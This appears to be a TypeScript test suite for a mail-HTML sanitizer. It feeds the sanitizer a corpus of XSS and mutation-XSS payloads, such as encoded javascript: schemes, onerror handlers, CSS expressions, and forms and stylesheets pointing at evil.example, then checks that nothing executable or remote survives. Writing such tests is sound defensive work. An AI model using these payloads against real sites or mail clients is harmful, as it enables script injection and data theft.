// Hostile HTML mail (issue 11, "How it will be checked"), in the style of the OWASP XSS Filter
// Evasion Cheat Sheet and the known mutation-XSS payloads: whatever goes in, nothing executable
// or remote may come out. Each output is checked twice, by a set of regular expressions over the
// markup and by re-parsing it with htmlparser2, both independent of the sanitizer's own policy.
import { describe, expect, it } from 'vitest';
import { sanitizeMailHtml } from './sanitize-mail-html.js';
import { domViolations, rawViolations, type InspectOptions } from './testing/inspect-mail-html.js';

const cidPrefix = '/mail-parts/';
const cidUrl = (id: string) => (id === 'logo@example' ? `${cidPrefix}${encodeURIComponent(id)}` : null);

const corpus: [string, string][] = [
  ['mixed-case script', '<ScRiPt>alert(1)</sCrIpT>'],
  ['remote script', '<script src=http://evil.example/x.js></script>'],
  ['split script', '<scr<script>ipt>alert(1)</script>'],
  ['nested angle brackets', '<<script>alert(1);//<</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img javascript src', `<IMG SRC="javascript:alert('XSS');">`],
  ['img mixed-case scheme', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['decimal entities', '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>'],
  ['hex entities without semicolons', '<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>'],
  ['tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['newline inside the scheme', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['carriage return inside the scheme', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['entity-encoded first letter', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['leading control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: HTML link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image link', '<a href="data:image/png;base64,AAAA">x</a>'],
  ['null byte in the scheme', '<a href="java\0script:alert(1)">x</a>'],
  ['null byte in the tag', '<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)>'],
  ['protocol-relative link', '<a href="//evil.example/x">x</a>'],
  ['backslash protocol-relative link', '<a href="\\\\evil.example/x">x</a>'],
  ['relative link to our own API', '<a href="/api/v1/accounts">x</a>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload=alert(1)><circle r=1 /></svg>'],
  ['svg xlink', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg image', '<svg><image href="http://evil.example/x.png" /></svg>'],
  ['math mglyph style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['math xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['form math mutation', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['noscript title mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['noembed mutation', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['frameset', '<frameset><frame src="http://evil.example/"></frameset>'],
  ['base href', '<base href="http://evil.example/"><a href="x">x</a><img src="y.png">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['form with formaction', '<form action="http://evil.example/steal"><input name=p type=password><button formaction="javascript:alert(1)">go</button><select><option>a</option></select><textarea>t</textarea></form>'],
  ['isindex', '<isindex action=javascript:alert(1) type=image>'],
  ['object embed applet', '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf"><applet code="x"></applet>'],
  ['css url tracker', '<div style="background:url(http://tracker.example/p.gif)">x</div>'],
  ['css expression', '<div style="width: expression(alert(1))">x</div>'],
  ['css javascript url', '<div style="background-image:url(javascript:alert(1))">x</div>'],
  ['css behavior and binding', '<div style="behavior: url(x.htc); -moz-binding: url(http://evil.example/x.xml#xss)">x</div>'],
  ['css position fixed overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>'],
  ['css escape', '<div style="color:red;background:u\\72l(http://tracker.example/p.gif)">x</div>'],
  ['css comment split', '<div style="width:expr/**/ession(alert(1))">x</div>'],
  ['css entity-encoded url', '<div style="background:&#117;rl(http://tracker.example/p.gif)">x</div>'],
  ['css rule break-out', '<div style="color: red; } div { background: url(http://tracker.example/p.gif) ">x</div>'],
  ['css image-set', '<div style="background:image-set(&quot;http://tracker.example/p.gif&quot; 1x)">x</div>'],
  ['img srcset', '<img srcset="http://tracker.example/a.png 1x, http://tracker.example/b.png 2x">'],
  ['table and cell background', '<table background="http://tracker.example/bg.png"><tr><td background="http://tracker.example/c.png">x</td></tr></table>'],
  ['body background', '<body background="http://tracker.example/bg.png">x</body>'],
  ['link stylesheet', '<link rel=stylesheet href="http://evil.example/x.css">'],
  ['style import', `<style>@import 'http://evil.example/x.css';</style>`],
  ['style block', '<style>body{background:url(http://tracker.example/p.gif)}</style>'],
  ['conditional comment', '<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->'],
  ['comment trick', '<!--><img src=x onerror=alert(1)>-->'],
  ['cdata', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['media', '<video poster="http://tracker.example/p.png"><source src="http://tracker.example/v.mp4"></video><audio src="http://tracker.example/a.mp3"></audio>'],
  ['picture', '<picture><source srcset="http://tracker.example/a.webp"><img src="cid:missing@example"></picture>'],
  ['input image', '<input type="image" src="http://tracker.example/p.gif">'],
  ['link handlers and ping', '<a href="https://ok.example/" onclick="alert(1)" ping="http://tracker.example/">x</a>'],
  ['slash before handler', '<p/onmouseover=alert(1)>x</p><div onmouseover="alert(1)">y</div>'],
  ['broken quotes', '<img """><script>alert(1)</script>">'],
  ['backtick attribute', '<img src=`x` onerror=alert(1)>'],
  ['escaped markup in a URL', '<a href="https://ok.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['title', '<title><img src=x onerror=alert(1)></title>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['svg data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['html data image', '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['target top', '<a href="https://ok.example/" target="_top" rel="opener">x</a>'],
  ['id and name clobbering', '<img name="getElementById"><form id="x"><a id="location" href="https://ok.example/">x</a>'],
  ['remote image upper case', '<img src="  HTTP://tracker.example/p.gif">'],
  ['remote image protocol-relative', '<img src="//tracker.example/p.gif">'],
  ['remote image backslashes', '<img src="\\\\tracker.example\\p.gif">'],
  ['cid with handler', '<img src="cid:logo@example" onerror="alert(1)"><img src="cid:missing@example">'],
];

const cases = corpus.flatMap(([name, html]) =>
  (['block', 'allow'] as const).map((images) => ({ name, html, images })),
);

describe('sanitizeMailHtml against hostile HTML', () => {
  it.each(cases)('$name (images: $images)', ({ html, images }) => {
    const inspect: InspectOptions = { remoteImages: images === 'allow', cidPrefix };
    const out = sanitizeMailHtml(html, { images, cidUrl }).html;
    expect(domViolations(out, inspect), out).toEqual([]);
    // Remote images from the tracker are fine once allowed; nothing may ever reach evil.example.
    const hosts = images === 'block' ? /evil\.example|tracker\.example/i : /evil\.example/i;
    expect(rawViolations(out, inspect, hosts), out).toEqual([]);
    // What is left of a payload is text or an inert attribute value, escaped.
    expect(out.replace(/="[^"]*"/g, '=""')).not.toMatch(/<[^>]*(?:alert|script)/i);
  });

  it('is hostile to begin with: the checks flag every input of the corpus', () => {
    const inspect: InspectOptions = { remoteImages: false, cidPrefix };
    const unflagged = corpus
      .filter(([, html]) => domViolations(html, inspect).length + rawViolations(html, inspect).length === 0)
      .map(([name]) => name);
    expect(unflagged).toEqual([]);
  });

  it('keeps what is harmless in the hostile inputs', () => {
    const sanitize = (html: string) => sanitizeMailHtml(html, { images: 'block', cidUrl }).html;
    expect(sanitize('<a href="jav&#x09;ascript:alert(1)">x</a>')).toBe('<a>x</a>');
    expect(sanitize('<a href="https://ok.example/" onclick="alert(1)" ping="http://tracker.example/">x</a>')).toBe(
      '<a href="https://ok.example/" rel="noopener noreferrer" target="_blank">x</a>',
    );
    expect(sanitize('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')).toBe('');
    expect(sanitize('<div style="color: red; } div { background: url(http://tracker.example/p.gif) ">x</div>')).toBe(
      '<div style="color:red">x</div>',
    );
    expect(sanitize('<img src="cid:logo@example" onerror="alert(1)">')).toBe('<img src="/mail-parts/logo%40example" />');
  });
});
